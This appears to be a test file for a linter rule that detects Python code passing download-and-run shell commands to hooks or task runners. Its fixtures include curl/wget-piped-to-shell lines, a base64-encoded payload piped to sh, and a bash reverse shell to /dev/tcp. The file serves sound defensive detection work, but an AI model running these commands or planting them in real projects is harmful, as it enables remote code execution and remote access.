import rule from '../../../src/core/rules/py/command-payload';
import { ruleTester } from '../../ruleTester';

ruleTester(rule, {
  valid: [
    // Messages for people: printing, logging, errors, help text.
    'print("install with: curl -fsSL https://deno.example/install.sh | sh")',
    'import logging\nlogging.getLogger(__name__).warning("run curl -fsSL https://get.example.dev | sh first")',
    'raise RuntimeError("missing tool; run: curl -fsSL https://get.example.dev | sh")',
    'parser.add_argument("--bootstrap", help="like curl -fsSL https://get.example.dev | sh")',
    'click.echo("curl -fsSL https://get.example.dev | bash")',
    // Commands that are not payloads.
    'dispatch("fmt", "black .")',
    'sh("curl -fsSL -o dist/app.tgz https://releases.example.dev/app.tgz")',
    'run("rm -rf build")',
    // Process APIs are the process rules' to judge (with the command).
    'import subprocess\nsubprocess.run("curl -fsSL https://x.example/i.sh | sh", shell=True)',
    'import os\nos.system("wget -qO- https://x.example/i | bash")',
    // Not constant; a lone name that matches a pattern is not a command line.
    'sh(user_command)',
    'import sys\nsys.audit("pty.spawn", argv)',
  ],
  invalid: [
    {
      code: 'def post_checkout():\n    dispatch("sync", "curl -fsSL https://setup.example.dev/hook.sh | sh")',
      errors: [
        {
          messageId: 'payload',
          line: 2,
          column: 22,
          severity: 'high',
          category: 'process',
          message:
            '`dispatch` is handed a command that downloads code and runs it at once, so what runs is whatever the server sends that day: `curl -fsSL https://setup.example.dev/hook.sh | sh`.',
        },
      ],
    },
    {
      // Through a name bound far from the call, to a method of an object of unknown type.
      code: 'BOOTSTRAP = "wget -qO- https://x.example.dev/i | bash"\n\nclass Hooks:\n    def install(self):\n        self.runner.run(BOOTSTRAP)',
      errors: [{ messageId: 'payload', line: 5, column: 25 }],
    },
    {
      // A keyword argument, a decoded payload, a reverse shell.
      code: 'task(name="setup", cmd="echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d | sh")',
      errors: [{ messageId: 'payload', line: 1, column: 24 }],
    },
    {
      code: 'hooks.register("post", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")',
      errors: [{ messageId: 'payload', line: 1, column: 24 }],
    },
    {
      // Built from pieces.
      code: 'HOST = "https://x.example.dev"\nrun_hook("curl -s " + HOST + "/i.sh | sh")',
      errors: [{ messageId: 'payload', line: 2, column: 10 }],
    },
    {
      // A lambda wrapper of Popen: the sink in the lambda is the process rule's; the handing-over is this one's.
      code: 'run_hook = lambda cmd, _spawn=__import__("subprocess").Popen: _spawn(cmd, shell=True)\n\ndef on_install():\n    run_hook("curl -fsSL https://install.example-tools.dev/x.sh | sh")',
      errors: [{ messageId: 'payload', line: 4, column: 14 }],
    },
  ],
});
